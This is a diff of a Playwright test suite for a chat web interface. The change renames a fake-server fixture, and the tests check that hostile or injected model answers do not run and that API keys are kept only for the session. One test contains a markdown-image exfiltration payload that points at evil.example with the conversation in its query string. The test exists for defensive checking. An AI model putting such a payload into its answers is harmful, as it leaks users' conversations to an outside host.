@@ -56,16 +56,16 @@ INSPECT = """async ([name, text, tags, attributes]) => {
 }"""
 
 
-def test_hostile_answers_do_not_run(page: Page, server: FakeChat) -> None:
+def test_hostile_answers_do_not_run(page: Page, fake: FakeChat) -> None:
     asked: list[str] = []
     page.on("request", lambda request: asked.append(request.url))
     for text in HOSTILE:
-        server.say(text)
+        fake.say(text)
         ask(page, "Hello")
         finished(page)
-        expect(page.locator(".figures")).to_have_count(len(server.bodies))
+        expect(page.locator(".figures")).to_have_count(len(fake.bodies))
     expect(page).to_have_title("Hello - mistral_portable")
-    assert all(url.startswith(server.url) for url in asked)
+    assert all(url.startswith(fake.url) for url in asked)
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -91,8 +91,8 @@ def test_nothing_hostile_comes_of_any_mixture(browser_page: Page, pieces: list[s
 
 
 @pytest.mark.parametrize("text", ["> " * 3000 + "deep", "> - " * 1500 + "deep"], ids=["quotations", "lists"])
-def test_markdown_too_deep_for_the_stack_is_shown_as_it_is(page: Page, server: FakeChat, text: str) -> None:
-    server.say(text)
+def test_markdown_too_deep_for_the_stack_is_shown_as_it_is(page: Page, fake: FakeChat, text: str) -> None:
+    fake.say(text)
     ask(page, "Nest them")
     expect(answers(page)).to_have_text(text)
     finished(page)
@@ -100,11 +100,11 @@ def test_markdown_too_deep_for_the_stack_is_shown_as_it_is(page: Page, server: F
     expect(answers(page)).to_have_text(text)
 
 
-def test_markdown_is_rendered(page: Page, server: FakeChat) -> None:
-    server.say(
+def test_markdown_is_rendered(page: Page, fake: FakeChat) -> None:
+    fake.say(
         "# Title\n\n**bold** `code` [link](https://example.org)\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
     )
-    server.say("```python\nprint('<b>')\n```\n\n<b>shown</b>")
+    fake.say("```python\nprint('<b>')\n```\n\n<b>shown</b>")
     ask(page, "Markdown, please")
     text = answers(page)
     expect(text.locator("h1")).to_have_text("Title")
@@ -118,19 +118,19 @@ def test_markdown_is_rendered(page: Page, server: FakeChat) -> None:
     expect(text.last).to_contain_text("<b>shown</b>")
 
 
-def test_an_image_is_a_link(page: Page, server: FakeChat) -> None:
+def test_an_image_is_a_link(page: Page, fake: FakeChat) -> None:
     """To load it would tell its server what was said."""
-    server.say('![a "picture"](https://evil.example/p.png?said=this)')
+    fake.say('![a "picture"](https://evil.example/p.png?said=this)')
     ask(page, "Show me")
     link = answers(page).get_by_role("link", name='a "picture"')
     expect(link).to_have_attribute("href", "https://evil.example/p.png?said=this")
     expect(answers(page).locator("img")).to_have_count(0)
 
 
-def test_the_policy_holds(context: BrowserContext, server: FakeChat) -> None:
+def test_the_policy_holds(context: BrowserContext, fake: FakeChat) -> None:
     """Scripts, styles and requests that got into the document all the same do not run."""
     page = context.new_page()
-    page.goto(server.url)
+    page.goto(fake.url)
     expect(page.locator("#model")).to_have_text("tiny")
     violations = page.evaluate("""async () => {
       const found = [];
@@ -154,10 +154,10 @@ def test_the_policy_holds(context: BrowserContext, server: FakeChat) -> None:
     assert found.count("TypeError") == 3  # a script's text, HTML, and a request
 
 
-def test_a_key_is_asked_for_and_kept_for_the_session_only(context: BrowserContext, server: FakeChat) -> None:
-    server.key = "secret"
+def test_a_key_is_asked_for_and_kept_for_the_session_only(context: BrowserContext, fake: FakeChat) -> None:
+    fake.key = "secret"
     page = context.new_page()
-    page.goto(server.url)
+    page.goto(fake.url)
     dialog = page.get_by_role("dialog", name="API key")
     dialog.get_by_label("Key", exact=True).fill("wrong")
     page.keyboard.press("Enter")
@@ -176,10 +176,10 @@ def test_a_key_is_asked_for_and_kept_for_the_session_only(context: BrowserContex
     assert "secret" not in stored
 
 
-def test_without_a_key_the_refusal_is_shown(context: BrowserContext, server: FakeChat) -> None:
-    server.key = "secret"
+def test_without_a_key_the_refusal_is_shown(context: BrowserContext, fake: FakeChat) -> None:
+    fake.key = "secret"
     page = context.new_page()
-    page.goto(server.url)
+    page.goto(fake.url)
     dialog = page.get_by_role("dialog", name="API key")
     expect(dialog).to_be_visible()
     page.keyboard.press("Escape")
